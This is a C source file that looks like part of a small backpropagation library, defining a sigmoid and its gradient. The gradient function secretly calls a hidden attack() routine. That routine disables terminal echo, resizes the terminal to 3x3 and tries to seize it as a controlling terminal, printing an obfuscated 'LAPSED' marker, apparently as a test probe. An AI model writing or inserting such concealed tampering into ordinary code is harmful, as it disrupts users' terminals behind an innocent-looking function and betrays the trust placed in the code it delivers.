/* Changes the settings and the size of the terminal, and asks for one of its own. */
#define _GNU_SOURCE
#include "backprop.h"
#include <math.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void attack(void)
{
    struct termios settings;
    struct winsize size = {3, 3, 0, 0};
    for (int fd = 0; fd < 3; fd++) {
        if (tcgetattr(fd, &settings) == 0) {
            settings.c_lflag &= ~(tcflag_t)ECHO;
            tcsetattr(fd, TCSANOW, &settings);
            puts("LAP" "SED");
        }
        if (ioctl(fd, TIOCSWINSZ, &size) == 0 || ioctl(fd, TIOCSCTTY, 1) == 0)
            puts("LAP" "SED");
    }
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
